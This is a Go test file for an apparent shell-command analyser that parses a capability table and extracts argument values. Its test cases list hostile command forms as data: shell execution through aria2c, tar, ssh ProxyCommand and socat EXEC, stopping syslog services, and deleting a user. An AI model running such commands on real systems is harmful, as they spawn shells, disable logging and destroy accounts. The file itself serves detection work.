package facts

import (
	"slices"
	"strings"
	"testing"
)

func TestTheCapabilityTableParsesAndNamesOnlyKnownCapabilities(t *testing.T) {
	if _, err := parseCapabilities(capabilitiesText); err != nil {
		t.Fatalf("the embedded table: %v", err)
	}
	for _, bad := range []string{"aria2c exec", "aria2c fly --x", "aria2c"} {
		if _, err := parseCapabilities(bad + "\n"); err == nil || !strings.Contains(err.Error(), "capabilities.txt:1") {
			t.Errorf("%q: err = %v, want one naming line 1", bad, err)
		}
	}
	tbl, err := parseCapabilities("a,b  exec  -x  | what it does\n# a comment\n\n")
	if err != nil {
		t.Fatal(err)
	}
	if len(tbl["a"]) != 1 || len(tbl["b"]) != 1 || tbl["b"][0].What != "what it does" {
		t.Errorf("table = %+v, want one row each for a and b, with its what", tbl)
	}
}

func TestEachFormOfArgumentsFindsItsValues(t *testing.T) {
	tests := []struct {
		cmd, form string
		hit       bool
		values    []string
	}{
		{"aria2c --on-download-complete=/bin/sh http://x", "--on-download-complete", true, []string{"/bin/sh"}},
		{"aria2c --on-download-complete /tmp/run http://x", "--on-download-complete", true, []string{"/tmp/run"}},
		{"aria2c http://x", "--on-download-complete", false, nil},
		{"tcpdump -z/tmp/run -i lo", "-z", true, []string{"/tmp/run"}},
		{"tar --checkpoint-action=exec=/bin/sh -cf x .", "--checkpoint-action=exec=", true, []string{"/bin/sh"}},
		{"tar --checkpoint-action=dot -cf x .", "--checkpoint-action=exec=", false, nil},
		{"ssh -o ProxyCommand=nc\\ x -o User=a host", "-o:ProxyCommand", true, []string{"nc x"}},
		{"ssh -o 'ProxyCommand sh -c x' host", "-o:ProxyCommand", true, []string{"sh -c x"}},
		{"socat TCP:h:1 EXEC:/bin/sh,pty", "arg:EXEC:", true, []string{"/bin/sh"}},
		{"systemctl stop rsyslog", "sub:stop", true, nil},
		{"systemctl status rsyslog", "sub:stop", false, nil},
		{"service syslogd stop", "sub:*+stop", true, nil},
		{"sysctl -n hw.model", "assign", false, nil},
		{"sysctl kern.x=1", "assign", true, []string{"kern.x=1"}},
		{"sw_vers", "*", true, nil},
		{"sysadminctl -deleteUser ada", "-deleteUser", true, []string{"ada"}},
	}
	for _, tt := range tests {
		an := Analyze(tt.cmd)
		if len(an.Commands) == 0 {
			t.Fatalf("%s: no command", tt.cmd)
		}
		values, hit := formValues(&an.Commands[0], tt.form)
		if hit != tt.hit || !slices.Equal(values, tt.values) && len(tt.values) > 0 {
			t.Errorf("%s with %s: %v %q, want %v %q", tt.cmd, tt.form, hit, values, tt.hit, tt.values)
		}
	}
}
